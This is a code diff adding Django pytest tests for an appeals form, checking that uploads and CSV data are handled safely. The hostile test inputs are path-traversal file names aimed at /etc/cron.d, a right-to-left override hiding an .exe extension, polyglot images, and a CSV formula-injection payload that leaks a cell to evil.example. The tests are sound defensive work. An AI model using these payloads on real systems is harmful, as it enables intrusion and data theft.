@@ -1,5 +1,7 @@
 """Filing an appeal through the public form (`/appeals/new/<type_code>/`)."""
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -8,7 +10,7 @@ from django.urls import reverse
 
 from evidence.models import Evidence
 from tests import files
-from tests.tickets.factories import VALID_ID_NUMBER, records_management, submission
+from tests.tickets.factories import VALID_ID_NUMBER, AgentFactory, records_management, submission
 from tickets.models import Appeal, AppealEvent, LoginDeviceRecord, OutboundEmail, RechargeRecord
 
 APPEAL_TYPE_CODES = ["realname_unbind", "phone_rebind", "access_card_unbind", "account_recovery", "emergency_freeze"]
@@ -318,3 +320,86 @@ def test_submission_is_rate_limited_per_ip(client, appeal_types, settings):
     assert response.status_code == 429
     assert "Too many attempts" in response.content.decode()
     assert Appeal.objects.count() == 2
+
+
+# --- The rest of the bad-input corpus ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("id_front.jpg", files.polyglot_jpeg_html_bytes(), "contains web page code or an archive hidden inside it"),
+        ("id_front.jpg", files.polyglot_jpeg_zip_bytes(), "contains web page code or an archive hidden inside it"),
+        ("id_front.pdf", files.pdf_with_javascript_bytes(), "This PDF contains scripts, actions or attached files"),
+    ],
+    ids=["jpeg-html-polyglot", "jpeg-zip-polyglot", "pdf-with-javascript"],
+)
+def test_polyglots_and_active_pdfs_are_refused(client, appeal_types, evidence_root, name, content, message):
+    appeal_type = appeal_types["realname_unbind"]
+    response = post_appeal(client, appeal_type, submission(appeal_type, evidence_id_front=files.upload(name, content)))
+    assert response.status_code == 400
+    assert message in " ".join(response.context["form"].uploads.errors["evidence_id_front"])
+    assert_nothing_stored(evidence_root)
+
+
+@pytest.mark.parametrize(
+    ("sent_name", "kept_name"),
+    [
+        ("../../../../etc/cron.d/evil.jpg", "evil.jpg"),
+        ("..\\..\\windows\\evil.jpg", "evil.jpg"),
+        ("身份证正面.jpg", "身份证正面.jpg"),
+        ("photo\u202egpj.exe", "photogpj.exe"),  # a right-to-left override hiding the real extension
+    ],
+    ids=["dot-dot-slash", "dot-dot-backslash", "chinese-name", "bidi-override"],
+)
+def test_file_names_are_only_data_and_never_paths(client, appeal_types, evidence_root, tmp_path, sent_name, kept_name):
+    appeal_type = appeal_types["realname_unbind"]
+    photo = files.upload(sent_name, files.photo_bytes(400, 300), "image/jpeg")
+    assert post_appeal(client, appeal_type, submission(appeal_type, evidence_id_front=photo)).status_code == 302
+    evidence = Evidence.objects.get(kind="id_front")
+    assert evidence.original_name == kept_name
+    stored = Path(evidence.file.path).resolve()
+    assert stored.is_relative_to(Path(evidence_root).resolve()) and kept_name not in stored.name
+    assert all(p.resolve().is_relative_to(Path(evidence_root).resolve()) for p in stored_files(evidence_root))
+    assert not (tmp_path.parent / "etc").exists()
+
+
+def test_id_images_need_explicit_consent(client, appeal_types, evidence_root):
+    appeal_type = appeal_types["realname_unbind"]
+    data = submission(appeal_type)
+    del data["consent_id_images"]
+    response = post_appeal(client, appeal_type, data)
+    assert response.status_code == 400
+    assert response.context["form"].appeal.errors["consent_id_images"] == ["We cannot process your appeal without this consent."]
+    assert_nothing_stored(evidence_root)
+
+
+def test_consent_is_recorded_with_the_text_shown(client, appeal_types):
+    appeal_type = appeal_types["realname_unbind"]
+    post_appeal(client, appeal_type, submission(appeal_type))
+    appeal = Appeal.objects.get()
+    assert appeal.consent_id_images_at is not None
+    assert "identity document" in appeal.consent_text and "180 days after the decision" in appeal.consent_text
+
+
+def test_no_consent_question_without_id_images(client, appeal_types):
+    html = client.get(reverse("tickets:new", args=["access_card_unbind"])).content.decode()
+    assert 'name="consent_id_images"' not in html
+
+
+def test_csv_formula_injection_is_inert_in_the_console_and_its_export(client, appeal_types):
+    appeal_type = appeal_types["account_recovery"]
+    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    text = "order_number,amount,currency,paid_at,product\n" + f'TX-1,5,CNY,2026-10-01 10:00,"{payload.replace(chr(34), chr(34) * 2)}"\n'
+    assert post_appeal(client, appeal_type, submission(appeal_type, recharge_csv=files.upload("r.csv", text.encode(), "text/csv"))).status_code == 302
+    appeal = Appeal.objects.get()
+    assert RechargeRecord.objects.get(order_number="TX-1").product == payload
+
+    client.force_login(AgentFactory())
+    html = client.get(reverse("desk:appeal", args=[appeal.reference])).content.decode()
+    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html
+    assert 'href="http://evil.example' not in html
+    export = client.get(reverse("desk:records_csv", args=[appeal.reference])).content.decode()
+    rows = list(csv.reader(io.StringIO(export)))
+    (row,) = [r for r in rows if r[2] == "TX-1"]
+    assert row[5] == "'" + payload
